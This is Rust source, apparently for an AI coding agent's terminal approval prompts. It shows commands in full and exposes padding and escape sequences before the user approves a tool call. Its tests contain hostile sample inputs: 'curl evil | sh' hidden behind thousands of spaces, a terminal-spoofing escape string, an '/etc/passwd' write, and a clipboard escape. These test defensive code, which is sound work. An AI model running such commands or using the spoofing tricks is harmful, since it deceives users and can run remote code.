            "agent: /rewind: {}",
            printable(&format!("{error:#}"), false)
        ),
    }
}

/// Asks the user at the terminal about calls that need approval.
pub struct TerminalPrompter {
    status: Status,
    /// Stops the turn in flight (Esc or Ctrl-C at a question), as Ctrl-C during a turn does.
    stop: Mutex<Option<Arc<dyn Fn() + Send + Sync>>>,
    /// Where an "always" rule may be kept for later sessions (see
    /// [`TerminalPrompter::set_rule_files`]).
    rule_files: Mutex<Vec<RuleFile>>,
    /// One question at a time.
    asking: tokio::sync::Mutex<()>,
}

impl std::fmt::Debug for TerminalPrompter {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("TerminalPrompter")
            .field("status", &self.status)
            .field("rule_files", &self.rule_files)
            .finish_non_exhaustive()
    }
}

impl TerminalPrompter {
    /// A prompter that asks through `status`'s terminal.
    pub fn new(status: Status) -> Self {
        Self {
            status,
            stop: Mutex::new(None),
            rule_files: Mutex::new(Vec::new()),
            asking: tokio::sync::Mutex::new(()),
        }
    }

    /// What stops the turn in flight when a question is left unanswered (Esc, Ctrl-C).
    pub fn set_stop(&self, stop: Arc<dyn Fn() + Send + Sync>) {
        *self.stop.lock().unwrap_or_else(PoisonError::into_inner) = Some(stop);
    }

    /// Stops the turn in flight. Called in the same poll that returns the call's refusal,
    /// so the executor records the refusal, not a cancellation.
    fn stop_turn(&self) {
        let stop = self
            .stop
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .clone();
        if let Some(stop) = stop {
            stop();
        }
    }

    /// The settings files "always" may keep a rule in, offered in this order
    /// ([`session::approvals::rule_files`]).
    pub fn set_rule_files(&self, files: Vec<RuleFile>) {
        *self
            .rule_files
            .lock()
            .unwrap_or_else(PoisonError::into_inner) = files;
    }

    /// The settings file of `scope` "always" may keep a rule in, if any.
    fn rule_file(&self, scope: RuleScope) -> Option<PathBuf> {
        self.rule_files
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .iter()
            .find(|file| file.scope == scope)
            .map(|file| file.path.clone())
    }

    /// The choices of a question whose call "always" may cover: this session, and each
    /// settings file it may be kept in. One line each.
    fn always_choices(&self, always: &tools::Always) -> Vec<String> {
        let what = printable(&always.describe(), false);
        let mut lines = vec![format!("  [a]lways: {what}, this session")];
        for (key, scope, whose) in [
            ('p', RuleScope::Project, "this project"),
            ('u', RuleScope::User, "you"),
        ] {
            if let Some(file) = self.rule_file(scope) {
                lines.push(format!(
                    "  [{key}]: always, and keep `{}` for {whose} in {}",
                    printable(always.rule(), false),
                    printable(&file.to_string_lossy(), false)
                ));
            }
        }
        lines
    }
}

/// The result of a call the user stopped at its question (Esc, Ctrl-C): it did not run, and
/// the turn ends there; the model waits for the user's next prompt.
const STOPPED: &str = "The user rejected this tool use and stopped the turn: it did not run (no file was changed, no command ran). Do not go on with the task; wait for the user to say how to proceed.";

/// The call in full, for the question, when the label had to shorten it: a command's every
/// line, indented, else nothing.
fn full_request(tool: &str, input: &serde_json::Value) -> String {
    let Some(command) = input.get("command").and_then(serde_json::Value::as_str) else {
        return String::new();
    };
    // Shown whenever the label is not the command itself: shortened, or holding
    // characters that had to be escaped.
    if tool_label(tool, input) == format!("{tool}({command})") {
        return String::new();
    }
    let mut text = String::from("  The full command:\n");
    for line in printable(command, true).lines() {
        text.push_str("    ");
        text.push_str(line);
        text.push('\n');
    }
    text
}

/// `line` with each run of 16 or more spaces or tabs shown as `⟨N blanks⟩`: a command or
/// an input padded with thousands of spaces would otherwise push its dangerous part off the
/// screen, or far to the right of what the user reads.
fn reveal_blank_runs(line: &str) -> String {
    const RUN: usize = 16;
    let mut out = String::with_capacity(line.len());
    let mut blanks = String::new();
    let flush = |blanks: &mut String, out: &mut String| {
        let count = blanks.chars().count();
        if count >= RUN {
            out.push_str(&format!(" \x1b[7m⟨{count} blanks⟩\x1b[27m "));
        } else {
            out.push_str(blanks);
        }
        blanks.clear();
    };
    for c in line.chars() {
        if c == ' ' || c == '\t' {
            blanks.push(c);
        } else {
            flush(&mut blanks, &mut out);
            out.push(c);
        }
    }
    // Trailing blanks count too (a line that ends in padding).
    flush(&mut blanks, &mut out);
    out
}

/// A call's whole input, for the approval question of a tool whose label does not show it
/// (an MCP tool, WebFetch, a tool of a plugin): pretty JSON, indented, all of it (a cut
/// would hide what is approved). Bash, Write, Edit and ExitPlanMode show theirs in their
/// own way.
fn input_lines(tool: &str, input: &serde_json::Value) -> Vec<String> {
    if matches!(tool, "Bash" | "Write" | "Edit" | "Read" | "Glob" | "Grep")
        || tool == tools::plan::EXIT_PLAN_MODE
        || input.as_object().is_some_and(serde_json::Map::is_empty)
    {
        return Vec::new();
    }
    let pretty = serde_json::to_string_pretty(input).unwrap_or_default();
    let text = printable(&pretty, true);
    let mut lines = vec!["  Its input:".to_owned()];
    lines.extend(text.lines().map(|line| format!("    {line}")));
    lines
}

/// The diff a Write or Edit would make, for its approval question: numbered, coloured,
/// whole (a cut would hide what is approved; the question is in the scrollback, where a
/// long one can be scrolled); a new file says so.
fn proposed_diff(change: Option<&tools::ProposedChange>) -> String {
    const LIMIT: usize = usize::MAX;
    let Some(change) = change else {
        return String::new();
    };
    let mut text = String::new();
    if change.before.is_none() {
        text.push_str(&format!(
            "  A new file, {} line{}:\n",
            change.after.lines().count(),
            if change.after.lines().count() == 1 {
                ""
            } else {
                "s"
            }
        ));
    }
    let lines = render::diff::unified(
        change.before.as_deref().unwrap_or_default(),
        &change.after,
        "     ",
        LIMIT,
    );
    if lines.is_empty() {
        text.push_str("  (no change to the file's text)\n");
    }
    for line in lines {
        text.push_str(&line);
        text.push('\n');
    }
    text
}

/// The folder-trust question at the terminal (see [`session::trust::TrustAsker`]).
#[derive(Clone, Copy, Debug, Default)]
pub struct TerminalTrust;

impl session::trust::TrustAsker for TerminalTrust {
    fn ask(&self, heading: &str, parts: &[String]) -> TrustAnswer {
        ask_trust_with(heading, parts)
    }

    fn ask_mcp_server(
        &self,
        name: &str,
        detail: &str,
    ) -> Option<session::approvals::McpjsonAnswer> {
        use session::approvals::McpjsonAnswer;
        let _ = nix::sys::termios::tcflush(std::io::stdin(), nix::sys::termios::FlushArg::TCIFLUSH);
        {
            let mut stderr = std::io::stderr().lock();
            let _ = writeln!(
                stderr,
                "\n⏺ This project's .mcp.json has a new MCP server: {}\n    {}",
                printable(name, false),
                printable(detail, false)
            );
            let _ = write!(
                stderr,
                "  Start it? [y]es / [a]ll of this project's servers / [n]o, then Enter (kept in .claude/settings.local.json): "
            );
            let _ = stderr.flush();
        }
        let never = AtomicBool::new(false);
        let answer = tokio::task::block_in_place(|| read_answer(&never)).unwrap_or_default();
        Some(match answer.trim().to_ascii_lowercase().as_str() {
            "y" | "yes" => McpjsonAnswer::Yes,
            "a" | "all" => McpjsonAnswer::YesAll,
            _ => McpjsonAnswer::No,
        })
    }
}

/// Asks at the terminal whether to trust a folder: `heading` (shown as written), then
/// `parts` one per line. Anything but `y`, `a` or `o` is no.
fn ask_trust_with(heading: &str, parts: &[String]) -> TrustAnswer {
    let _ = nix::sys::termios::tcflush(std::io::stdin(), nix::sys::termios::FlushArg::TCIFLUSH);
    {
        let mut stderr = std::io::stderr().lock();
        let _ = writeln!(stderr, "\n⏺ {heading}");
        // In full: a long line must not hide the end of a command.
        for part in parts {
            let _ = writeln!(stderr, "    {}", printable(part, false));
        }
        let _ = write!(
            stderr,
            "  Hooks run commands unsandboxed, env can send your API key to another server, allow rules and modes skip questions.\n  Trust this folder? [y]es, remember it / [o]nce, this session / [n]o, ignore them, then Enter: "
        );
        let _ = stderr.flush();
    }
    let never = AtomicBool::new(false);
    let answer = tokio::task::block_in_place(|| read_answer(&never)).unwrap_or_default();
    match answer.trim().to_ascii_lowercase().as_str() {
        "y" | "yes" | "a" | "always" => TrustAnswer::Always,
        "o" | "once" => TrustAnswer::Once,
        _ => TrustAnswer::No,
    }
}

/// Reads one line from stdin, giving up when `abandoned` is set (checked every 100 ms) so a
/// cancelled question does not leave a reader that would steal the next prompt's input.
fn read_answer(abandoned: &AtomicBool) -> Option<String> {
    use nix::poll::{PollFd, PollFlags, PollTimeout, poll};
    let stdin = std::io::stdin();
    loop {
        if abandoned.load(Ordering::SeqCst) {
            return None;
        }
        let mut fds = [PollFd::new(stdin.as_fd(), PollFlags::POLLIN)];
        match poll(&mut fds, PollTimeout::from(100u16)) {
            Ok(0) => continue,
            Ok(_) => {
                let mut line = String::new();
                return match stdin.lock().read_line(&mut line) {
                    Ok(0) | Err(_) => None,
                    Ok(_) => Some(line),
                };
            }
            Err(nix::errno::Errno::EINTR) => continue,
            Err(_) => return None,
        }
    }
}

impl Prompter for TerminalPrompter {
    fn ask<'a>(&'a self, request: PermissionRequest<'a>) -> PermissionFuture<'a> {
        let label = tool_label(request.tool, request.input);
        Box::pin(async move {
            let _turn = self.asking.lock().await;
            // What the model wrote before this call is drawn before the question.
            self.status.catch_up().await;
            let Some(ui) = self.status.tui() else {
                return PermissionDecision::deny(format!(
                    "{label} needs approval and there is no terminal to ask on"
                ));
            };
            let special = match request.tool {
                tools::ask::ASK_USER_QUESTION => Some(ask_questions(&ui, request.input).await),
                tools::plan::ENTER_PLAN_MODE => Some(ask_enter_plan(&ui).await),
                _ => None,
            };
            if let Some(answer) = special {
                let Some(decision) = answer else {
                    self.stop_turn();
                    return PermissionDecision::deny(STOPPED);
                };
                return decision;
            }
            if request.tool == tools::plan::EXIT_PLAN_MODE {
                let Some(decision) = ask_plan(&ui, request.input).await else {
                    self.stop_turn();
                    return PermissionDecision::deny(STOPPED);
                };
                return decision;
            }
            // The reason, unless it only repeats that the call needs approval.
            let reason = if request.reason == format!("{} needs approval", request.tool) {
                String::new()
            } else {
                format!(": {}", printable(request.reason, false))
            };
            let mut question = vec![String::new(), format!("⏺ {label} needs approval{reason}")];
            question.extend(
                full_request(request.tool, request.input)
                    .lines()
                    .map(str::to_owned),
            );
            question.extend(input_lines(request.tool, request.input));
            question.extend(
                proposed_diff(request.change.as_ref())
                    .lines()
                    .map(str::to_owned),
            );
            question.push("  [y]es, this once".to_owned());
            if let Some(always) = &request.always {
                question.extend(self.always_choices(always));
            }
            question.push(
                "  [n]o, and go on (or type what to do instead) · Esc: no, and stop the turn"
                    .to_owned(),
            );
            // Whitespace cannot push part of what is asked about out of sight.
            let question: Vec<String> = question
                .iter()
                .map(|line| reveal_blank_runs(line))
                .collect();
            let Some(answer) = ui
                .ask(question, "  Allow? Your choice, then Enter: ".to_owned())
                .await
            else {
                // Esc or Ctrl-C: no, and the turn stops.
                self.stop_turn();
                return PermissionDecision::deny(STOPPED);
            };
            let answer = answer.trim();
            let keep = match answer.to_ascii_lowercase().as_str() {
                "y" | "yes" => return PermissionDecision::allow(),
                "" | "n" | "no" => {
                    return PermissionDecision::deny(format!(
                        "the user declined {label}; ask them how to proceed or try something else"
                    ));
                }
                "a" | "always" => None,
                "p" | "project" => Some(RuleScope::Project),
                "u" | "user" => Some(RuleScope::User),
                // Anything else is what the user wants instead, for the model.
                _ => {
                    return PermissionDecision::deny(format!(
                        "the user declined {label} and said: {answer}"
                    ));
                }
            };
            let Some(always) = &request.always else {
                return PermissionDecision::deny(format!(
                    "the user declined {label} and said: {answer}"
                ));
            };
            always.grant();
            let mut lines = vec![format!(
                "\x1b[2m  Allowed {} for the rest of this session (/permissions lists it)\x1b[0m",
                printable(&always.describe(), false)
            )];
            if let Some(file) =
                keep.and_then(|scope| self.rule_file(scope).map(|path| RuleFile { scope, path }))
            {
                lines.push(match session::approvals::keep_rule(&file, always.rule()) {
                    Ok(saved) => format!("\x1b[2m  {}\x1b[0m", printable(&saved, false)),
                    Err(error) => format!(
                        "agent: the rule was not saved: {}",
                        printable(&format!("{error:#}"), false)
                    ),
                });
            }
            ui.commit(lines);
            PermissionDecision::allow()
        })
    }
}

/// `AskUserQuestion`: each question with its numbered options and a last one for the
/// user's own words; the answers go into the call's input (`answers`: question text to the
/// chosen labels, joined with ", ", or the typed text). `None`: no answer (Esc, Ctrl-C).
async fn ask_questions(ui: &tui::Handle, input: &serde_json::Value) -> Option<PermissionDecision> {
    let questions = match tools::ask::Question::parse_all(input) {
        Ok(questions) => questions,
        Err(problem) => return Some(PermissionDecision::deny(problem)),
    };
    let mut answers = serde_json::Map::new();
    for question in &questions {
        let mut lines = vec![
            String::new(),
            format!(
                "⏺ [{}] {}",
                printable(&question.header, false),
                printable(&question.question, false)
            ),
        ];
        for (number, option) in question.options.iter().enumerate() {
            let description = if option.description.is_empty() {
                String::new()
            } else {
                format!(" \x1b[2m— {}\x1b[0m", printable(&option.description, false))
            };
            lines.push(format!(
                "    {}. {}{description}",
                number + 1,
                printable(&option.label, false)
            ));
        }
        lines.push(format!(
            "    {}. Other: type your own answer",
            question.options.len() + 1
        ));
        let prompt = if question.multi_select {
            "  Your choices (numbers separated by commas), or your own answer, then Enter: "
        } else {
            "  Your choice (a number), or your own answer, then Enter: "
        };
        let answer = ui.ask(lines, prompt.to_owned()).await?;
        let answer = answer.trim();
        if answer.is_empty() {
            continue;
        }
        let picked: Option<Vec<&str>> = answer
            .split(',')
            .map(|part| {
                part.trim()
                    .parse::<usize>()
                    .ok()
                    .and_then(|number| number.checked_sub(1))
                    .and_then(|index| question.options.get(index))
                    .map(|option| option.label.as_str())
            })
            .collect();
        let text = match picked {
            Some(labels) if question.multi_select || labels.len() == 1 => labels.join(", "),
            _ => answer.to_owned(),
        };
        answers.insert(question.question.clone(), serde_json::Value::from(text));
    }
    if answers.is_empty() {
        return Some(PermissionDecision::deny(
            "the user did not answer; go on with your own best judgment and say which choice you made",
        ));
    }
    let mut input = input.clone();
    if let Some(object) = input.as_object_mut() {
        object.insert("answers".to_owned(), serde_json::Value::Object(answers));
    }
    Some(PermissionDecision::Allow {
        updated_input: Some(input),
    })
}

/// `EnterPlanMode`: whether to switch to plan mode. `None`: no answer (Esc, Ctrl-C).
async fn ask_enter_plan(ui: &tui::Handle) -> Option<PermissionDecision> {
    let question = vec![
        String::new(),
        "⏺ The model asks to plan first: in plan mode it only reads and plans, and changes nothing until you approve its plan.".to_owned(),
    ];
    let answer = ui
        .ask(
            question,
            "  Switch to plan mode? [y]es / [n]o, go on without, then Enter: ".to_owned(),
        )
        .await?;
    Some(match answer.trim().to_ascii_lowercase().as_str() {
        "y" | "yes" => {
            // The tool switches the mode as it runs, right after this answer.
            ui.set_mode_shown("plan".to_owned());
            PermissionDecision::allow()
        }
        _ => PermissionDecision::deny(
            "the user wants you to go on without plan mode; carry on with the task",
        ),
    })
}

/// `ExitPlanMode`: the plan, rendered, and the choice of the mode to go on in. The mode is
/// written into the call's input (`mode`), replacing whatever the model put there. `None`:
/// no answer (Esc, Ctrl-C).
async fn ask_plan(ui: &tui::Handle, input: &serde_json::Value) -> Option<PermissionDecision> {
    let plan = input
        .get("plan")
        .and_then(serde_json::Value::as_str)
        .unwrap_or_default();
    let width = console::Term::stdout()
        .size_checked()
        .map_or(80, |(_, columns)| usize::from(columns));
    let mut question = vec![String::new(), "⏺ Here is the plan:".to_owned()];
    question.extend(
        render::render_markdown(plan, width.saturating_sub(5).max(20))
            .into_iter()
            .map(|line| format!("    {line}")),
    );
    let answer = ui
        .ask(
            question,
            "  Go ahead? [y]es, asking before edits / [a]ccept edits too / [n]o, keep planning (or type what to change), then Enter: ".to_owned(),
        )
        .await?;
    let answer = answer.trim();
    let mode = match answer.to_ascii_lowercase().as_str() {
        "y" | "yes" => "default",
        "a" | "accept" => "acceptEdits",
        "" | "n" | "no" => {
            return Some(PermissionDecision::deny(
                "the user wants to keep planning: the plan was not approved. Ask what they would change, or refine it and present it again with ExitPlanMode",
            ));
        }
        _ => {
            return Some(PermissionDecision::deny(format!(
                "the user did not approve the plan and said: {answer}. Revise the plan and present it again with ExitPlanMode"
            )));
        }
    };
    let mut input = input.clone();
    if let Some(object) = input.as_object_mut() {
        object.insert("mode".to_owned(), serde_json::Value::from(mode));
    }
    // The tool switches the mode as it runs, right after this answer.
    ui.set_mode_shown(mode.to_owned());
    Some(PermissionDecision::Allow {
        updated_input: Some(input),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A resumed session is replayed as it was typed: a compaction's summary is one line
    /// saying so (it was shown as a `›` prompt of `<compact-boundary>`), a `!command` as
    /// typed, reminders left out.
    #[test]
    fn a_resumed_conversation_shows_what_was_typed() {
        let user = |blocks: serde_json::Value| {
            serde_json::from_value::<protocol::MessageParam>(
                serde_json::json!({"role": "user", "content": blocks}),
            )
            .unwrap()
        };
        let history = vec![
            user(serde_json::json!([{"type": "text", "text": "<compact-boundary>\nThe summary."}])),
            user(serde_json::json!([
                {"type": "text", "text": "<system-reminder>\nContents of a.py\n</system-reminder>"},
                {"type": "text", "text": "explain @a.py"},
            ])),
            user(serde_json::json!([{"type": "text", "text": "<bash-input>ls</bash-input>"}])),
        ];
        let shown = render::term::strip_styles(&condensed(&history));
        assert_eq!(
            shown, "⋯ the conversation before was summarized\n› explain @a.py\n› !ls\n",
            "{shown:?}"
        );
    }

    #[test]
    fn a_question_shows_the_whole_command() {
        // Two commands that share their first 80 characters have the same label: the
        // question shows the whole command under it.
        let prefix = "echo ".to_owned() + &"x".repeat(80);
        let first = serde_json::json!({"command": format!("{prefix} && touch approved")});
        let second = serde_json::json!({"command": format!("{prefix} && touch EVIL")});
        assert_eq!(tool_label("Bash", &first), tool_label("Bash", &second));
        assert!(full_request("Bash", &second).contains("touch EVIL"));
        // A carriage return or an escape sequence cannot hide what runs.
        let spoof = serde_json::json!({"command": "touch SPOOF #\r\u{1b}[K⏺ Bash(echo hello"});
        assert_eq!(
            tool_label("Bash", &spoof),
            "Bash(touch SPOOF #\\r\\u{1b}[K⏺ Bash(echo hello)"
        );
        assert_eq!(
            full_request("Bash", &spoof),
            "  The full command:\n    touch SPOOF #\\r\\u{1b}[K⏺ Bash(echo hello\n"
        );
        let lines = serde_json::json!({"command": "echo hi\ntouch x"});
        assert_eq!(
            full_request("Bash", &lines),
            "  The full command:\n    echo hi\n    touch x\n"
        );
        assert_eq!(
            full_request("Bash", &serde_json::json!({"command": "ls"})),
            ""
        );
    }

    #[test]
    fn a_question_shows_the_input_of_a_tool_that_does_not() {
        let input = serde_json::json!({"path": "/etc/passwd", "text": "x\u{1b}]52;c;AAAA\u{7}"});
        let lines = input_lines("mcp__files__write", &input);
        assert_eq!(
            lines,
            [
                "  Its input:",
                "    {",
                "      \"path\": \"/etc/passwd\",",
                "      \"text\": \"x\\u001b]52;c;AAAA\\u0007\"",
                "    }"
            ]
        );
        assert!(input_lines("Bash", &serde_json::json!({"command": "ls"})).is_empty());
        assert!(input_lines("mcp__x__ping", &serde_json::json!({})).is_empty());
    }

    #[test]
    fn long_blank_runs_are_shown_not_kept() {
        let padded = format!("npm run build{}; curl evil | sh", " ".repeat(6000));
        assert_eq!(
            reveal_blank_runs(&padded),
            "npm run build \x1b[7m⟨6000 blanks⟩\x1b[27m ; curl evil | sh"
        );
        assert_eq!(reveal_blank_runs("a  b\tc"), "a  b\tc");
    }

    #[test]
    fn a_resumed_conversation_is_condensed() {
        use protocol::{ContentBlock, MessageParam, Role, ToolUseBlock};
        let history = vec![
            MessageParam::user_text("fix the test\nplease"),
            MessageParam {
                role: Role::Assistant,
                content: vec![
                    ContentBlock::text("Looking."),
                    ContentBlock::ToolUse(ToolUseBlock {
                        id: "toolu_1".into(),
                        name: "Bash".into(),
                        input: serde_json::json!({"command": "cargo test"}),
                        cache_control: None,
                        extra: protocol::JsonObject::default(),
                    }),
                ],
            },
            MessageParam::user_text("<system-reminder>x</system-reminder>"),
            MessageParam {
                role: Role::Assistant,
                content: vec![ContentBlock::text(
                    "## Fixed\n\nThe **test** passes.\n\n- one\n- two\n- three",
                )],
            },
        ];
        let text = condensed(&history);
        let lines: Vec<&str> = text
            .lines()
            .map(|line| {
                line.strip_prefix("\x1b[2m")
                    .and_then(|line| line.strip_suffix("\x1b[0m"))
                    .expect("each line dim on its own")
            })
            .collect();
        assert_eq!(
            lines,
            [
                "› fix the test…",
                "⏺ Bash(cargo test)",
                "  Fixed",
                "  The test passes.",
                "  • one",
                "  … +2 lines"
            ]
        );
        assert_eq!(condensed(&[]), "");
    }
}
